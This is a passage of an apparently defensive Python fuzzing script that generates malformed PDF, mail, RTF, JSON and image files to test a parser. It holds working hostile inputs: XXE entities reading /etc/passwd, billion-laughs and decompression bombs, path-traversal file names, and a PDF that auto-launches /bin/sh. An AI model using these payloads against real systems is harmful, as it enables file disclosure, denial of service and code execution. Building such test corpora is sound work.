    glyphs = "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 66/Widths[1 1]" \
             "/Encoding<</Differences[65/A/B]>>/CharProcs<</A 7 0 R/B 7 0 R>>/Resources<</Font<</F 6 0 R>>>>>>"
    write("type3-loop.pdf", page_pdf("BT/G 12 Tf(ABAB)Tj ET", more={6: glyphs, 7: stream("BT/F 12 Tf(ABABABAB)Tj ET")}).replace(
        b"/Font<</F 5 0 R>>", b"/Font<</F 5 0 R/G 6 0 R>>"))
    cmap = "begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange %s endcmap"
    for i, ranges in enumerate(["1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange",
                                "1 beginbfchar <41> <" + "0041" * 500000 + "> endbfchar",
                                "1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange",
                                "/Identity-H usecmap /A usecmap", "beginbfrange " * 200000,
                                "1 beginbfrange <00> <FF> [" + "<0041>" * 300000 + "] endbfrange"]):
        font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
        write("cmap-%d.pdf" % i, page_pdf(WORDS, more={5: font, 6: stream(zlib.compress((cmap % ranges).encode()), "/Filter/FlateDecode")}))
    for i, (encoding, ordering) in enumerate([("/GBK-EUC-H", "GB1"), ("/UniGB-UTF16-H", "GB1"), ("/../../../etc/passwd", "GB1"),
                                              ("/UniJIS-UCS2-H", "../../../etc"), ("7 0 R", "CNS1")]):
        write("cid-%d.pdf" % i, page_pdf(WORDS, more={
            5: "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding %s/DescendantFonts[6 0 R]>>" % encoding,
            6: "<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(%s)/Supplement 0>>"
               "/W[0 2147483647 500]/DW 2147483647>>" % ordering,
            7: stream("begincmap /X usecmap 1 begincidrange <0000> <FFFF> 0 endcidrange endcmap", "/UseCMap 7 0 R/CMapName/X")}))
    for i, kind in enumerate(["/FontFile", "/FontFile2", "/FontFile3"]):
        write("font-%d.pdf" % i, page_pdf(WORDS, more={
            5: "<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R>>",
            6: "<</Type/FontDescriptor/FontName/A/Flags 4%s 7 0 R>>" % kind, 7: stream(b"\0\1\0\0\xff\xff" + os.urandom(0) + bytes(range(256)) * 40)}))
    outline = {1: "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: "<</Type/Page/Parent 2 0 R>>"}
    for name, six, seven in (("next", "<</First 7 0 R/Count 1>>", "<</Title(a)/Next 7 0 R/Dest[3 0 R/Fit]>>"),
                             ("first", "<</First 7 0 R>>", "<</Title(a)/First 7 0 R/Next 7 0 R/Dest[3 0 R/Fit]>>"),
                             ("parent", "<</First 6 0 R/Next 6 0 R/Title(a)/Dest[3 0 R/Fit]>>", "<<>>"),
                             ("title", "<</First 7 0 R>>", "<</Title(" + "x" * 3_000_000 + ")/Dest[3 0 R/Fit]>>")):
        write("outline-%s.pdf" % name, pdf({**outline, 6: six, 7: seven}))
    long_outline = {**outline, 6: "<</First 7 0 R>>"}
    for i in range(7, 30007):
        long_outline[i] = "<</Title(a)/Dest[3 0 R/Fit]%s>>" % ("/Next %d 0 R" % (i + 1) if i < 30006 else "")
    write("outline-long.pdf", pdf(long_outline))
    names = "<</Type/Catalog/Pages 2 0 R/Names<</Dests 6 0 R>>/Outlines 7 0 R>>"
    write("names-loop.pdf", pdf({**outline, 1: names, 6: "<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>", 7: "<</First 8 0 R>>", 8: "<</Title(a)/Dest(m)>>"}))
    for i, box in enumerate(["[0 0 1e38 1e38]", "[0 0 0 0]", "[9 9 -9 -9]", "[nan nan nan nan]", "[0 0 -1e-38 1e-38]", "[]"]):
        write("box-%d.pdf" % i, page_pdf(WORDS).replace(b"[0 0 600 800]", box.encode()))
    for i, content in enumerate(["BT/F 1e30 Tf 1e30 1e30 Td(words)Tj ET", "BT/F 0 Tf(words)Tj ET", "BT/F -12 Tf -1e9 5 Td(words)Tj ET",
                                 "1e-30 0 0 1e-30 0 0 cm " + WORDS, "0 0 0 0 0 0 cm " + WORDS, "BT/F 12 Tf" + " 0 0 Td(word)Tj" * 100000 + " ET",
                                 "BT/F 12 Tf" + " 1 0 Td(w)Tj" * 100000 + " ET", "BT/F 12 Tf 0 700 Td(" + "w" * 1_000_000 + ")Tj ET",
                                 "BT/F 12 Tf " + "[(a)-9999999(b)]TJ " * 50000 + " ET", "BT/F 12 Tf(a)Tj 0.7 0.7 -0.7 0.7 0 0 Tm " * 20000]):
        write("content-%d.pdf" % i, page_pdf(zlib.compress(content.encode()), "/Filter/FlateDecode"))
    for i, encrypt in enumerate(["<</Filter/Standard/V 2/R 3/Length 128/P -4/O(" + "x" * 32 + ")/U(" + "y" * 32 + ")>>",
                                 "<</Filter/Standard/V 5/R 6/Length 99999999/P -4/O(x)/U(y)>>", "<</Filter/Other>>", "6 0 R"]):
        write("encrypt-%d.pdf" % i, page_pdf(WORDS).replace(b"/Root", b"/ID[(a)(b)]/Encrypt " + encrypt.encode() + b"/Root"))
    write("javascript.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('http://127.0.0.1:9'))>>"
                                 "/AA<</O<</S/Launch/F(/bin/sh)>>>>>>", 2: "<</Type/Pages/Kids[]/Count 0>>"}))
    write("external.pdf", page_pdf("/X Do", resources="/XObject<</X 6 0 R>>", more={
        6: stream("", "/Type/XObject/Subtype/Image/Width 1/Height 1/F(/etc/passwd)/FFilter/FlateDecode")}))
    write("xfa.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 3 0 R/Fields[4 0 R]>>>>", 2: "<</Type/Pages/Kids[]/Count 0>>",
                          3: stream("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"), 4: "<</Kids[4 0 R]/Parent 4 0 R>>"}))
    write("metadata.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/Metadata 3 0 R>>", 2: "<</Type/Pages/Kids[]/Count 0>>",
                               3: stream("<!DOCTYPE x [<!ENTITY a '" + "a" * 9999 + "'>]><x>" + "&a;" * 9999 + "</x>")}))
    for i, info in enumerate(["/Title(\xfe\xff" + "\0" * 9 + ")", "/CreationDate(D:99999999999999999999)", "/Title[1 2 3]",
                              "/Title(" + "x" * 1_000_000 + ")", "/CreationDate(D:00000000)", "/Author 6 0 R"]):
        write("info-%d.pdf" % i, page_pdf(WORDS, more={6: "<<%s>>" % info}).replace(b"/Root", b"/Info 6 0 R/Root"))
    write("junk-before.pdf", b"x" * 1000 + page_pdf(WORDS))
    write("only-header.pdf", b"%PDF-1.7\n")
    write("zeros.pdf", b"%PDF-1.7\n" + b"\0" * 3_000_000)
    write("objects.pdf", b"%PDF-1.7\n" + b"1 0 obj\n" * 300000)
    write("trailers.pdf", b"%PDF-1.7\n" + b"trailer<</Root 1 0 R>>\n" * 100000)
    write("comments.pdf", b"%PDF-1.7\n" + b"%" * 5_000_000)
    write("noise.pdf", b"%PDF-1.7\n" + random.Random(7).randbytes(1_000_000))


# ---- mail and RTF ----------------------------------------------------------------

def mail():
    write("nested.eml", "".join(MAIL + 'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
                                for i in range(20000)))
    write("nested-parts.eml", MAIL + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' +
          "".join('--b%s\r\nContent-Type: multipart/mixed; boundary="b%s"\r\n\r\n' % ("b" * i, "b" * (i + 1))
                  for i in range(1500)))
    write("messages.eml", (MAIL + "Content-Type: message/rfc822\r\n\r\n") * 20000 + "x")
    write("same-boundary.eml", MAIL + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' +
          '--b\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' * 50000)
    write("parts.eml", MAIL + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + "--b\r\n\r\nx\r\n" * 200000)
    write("boundary.eml", MAIL + 'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n' % ("b" * 1_000_000) + "x")
    write("no-boundary.eml", MAIL + "Content-Type: multipart/mixed\r\n\r\nx")
    write("header.eml", MAIL + "X: " + "x" * 10_000_000 + "\r\n\r\nx")
    write("headers.eml", MAIL + "X: y\r\n" * 1_000_000 + "\r\nx")
    write("folded.eml", MAIL + "X: y\r\n" + " z\r\n" * 1_000_000 + "\r\nx")
    write("encoded-words.eml", MAIL.replace("5aSH5Lu9", "5aSH5Lu9?= =?UTF-8?B?5aSH" * 100000) + "\r\nx")
    write("encoded-charset.eml", MAIL.replace("UTF-8", "x" * 100000) + "\r\nx")
    write("parameters.eml", MAIL + "Content-Type: text/plain;" + " a*0*=UTF-8''x;" * 100000 + "\r\n\r\nx")
    write("addresses.eml", MAIL + "Cc: " + "(" * 500000 + "\r\n\r\nx")
    write("groups.eml", MAIL + "Cc: " + "a:" * 500000 + "\r\n\r\nx")
    for encoding in ("base64", "quoted-printable", "x-uuencode", "8bit", "x-none"):
        write("encoding-%s.eml" % encoding, MAIL + "Content-Transfer-Encoding: %s\r\n\r\n" % encoding + "=" * 3_000_000)
    for charset in ("utf-7", "gb18030", "iso-2022-cn-ext", "../../x", "utf-16", "//IGNORE", "x" * 5000):
        write("charset-%d.eml" % (len(charset) * 31 + ord(charset[0])), (MAIL + 'Content-Type: text/plain; charset="%s"\r\n\r\n' % charset).encode()
              + bytes(range(128, 256)) * 1000)
    write("attachment-name.eml", MAIL + 'Content-Type: text/plain; name="../../../../tmp/evil.txt"\r\n'
          'Content-Disposition: attachment; filename="/etc/passwd"\r\n\r\nx')
    write("external.eml", MAIL + 'Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1:9/"\r\n\r\nx')
    write("partial.eml", MAIL + 'Content-Type: message/partial; id="a"; number=1; total=999999999\r\n\r\nx')
    for i, kind in enumerate(("text", "", "/", "x" * 1_000_000, "text;" * 100_000)):
        write("type-%d.eml" % i, MAIL + "Content-Type: %s\r\n\r\n<div>x" % kind)
    write("html.eml", MAIL + "Content-Type: text/html\r\n\r\n" + "<div>" * MANY)
    write("froms.mbox", "From a@b Mon Jan  1 00:00:00 2024\n" * 200000)
    write("mails.mbox", ("From a@b Mon Jan  1 00:00:00 2024\n" + MAIL + "\nx\n\n") * 20000)
    write("deep.rtf", r"{\rtf1 " + "{" * MANY)
    write("deep-closed.rtf", r"{\rtf1 " + "{" * MANY + "x" + "}" * MANY + "}")
    write("bin.rtf", r"{\rtf1 \bin2147483647 x}")
    write("bin-negative.rtf", r"{\rtf1 \bin-1 x}")
    write("numbers.rtf", r"{\rtf1 \u99999999999999999999 \uc2147483647\u1 " + "x" * 1000 + "}")
    write("words.rtf", r"{\rtf1 \%s 1}" % ("a" * 1_000_000))
    write("unicode.rtf", r"{\rtf1 " + r"\u-10187?" * 300000 + "}")
    write("hex.rtf", r"{\rtf1 " + r"\'" * 500000 + "}")
    write("object.rtf", r"{\rtf1{\object{\*\objdata " + "0" * 5_000_000 + "}}}")
    write("picture.rtf", r"{\rtf1{\pict\picw2147483647\pich2147483647 " + "f" * 3_000_000 + "}}")
    write("closing.rtf", r"{\rtf1 x" + "}" * MANY)
    write("fonts.rtf", r"{\rtf1{\fonttbl" + r"{\f99999999\fcharset999 a;}" * 100000 + "}}")
    write("field.rtf", r"{\rtf1{\field{\*\fldinst INCLUDETEXT \"/etc/passwd\"}{\fldrslt x}}}")


# ---- what is read in this process --------------------------------------------------

def plain():
    write("deep.json", "[" * MANY)
    write("deep-objects.json", '{"a":' * MANY)
    write("deep-closed.json", "[" * MANY + "]" * MANY)
    write("deep.xml", "<a>" * MANY)
    write("deep.html", "<div>" * MANY)
    write("deep.md", ">" * MANY)
    write("brackets.md", "[" * MANY)
    write("line.csv", "a," * 5_000_000)
    write("quote.csv", '"' * 3_000_001)
    write("rows.csv", "a\n" * 2_000_000)
    write("times.srt", "1\n00:00:00,000 --> 99999999999:99:99,999\nx\n\n" * 50000)
    write("comments.c", "/*" * MANY)
    write("strings.py", '"' * MANY)
    def png(width, height, data):
        def part(kind, body):
            return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        return (b"\x89PNG\r\n\x1a\n" + part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) +
                part(b"IDAT", data) + part(b"IEND", b""))

    write("bomb.png", png(9000, 9000, zlib.compress(bytes(9001 * 9000))))
    write("short.png", png(5000, 5000, zlib.compress(b"x")))
    write("long.png", png(10, 10, zlib.compress(bytes(32 << 20))))
    write("noise.png", png(600, 400, zlib.compress(random.Random(9).randbytes(601 * 400))))
    write("flat.png", png(30000, 1, zlib.compress(bytes(30001))))
    for name, size in (("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\2\0\0\0\0\0\0\0"),
                       ("gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0"), ("jpg", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3"),
                       ("bmp", b"BM" + b"\xff" * 52), ("tif", b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 100),
                       ("webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 \xff\xff\xff\x7f")):
        write("image.%s" % name, size)


os.makedirs(FOLDER, exist_ok=True)
damaged()
archives()
xml()
pdfs()
mail()
plain()
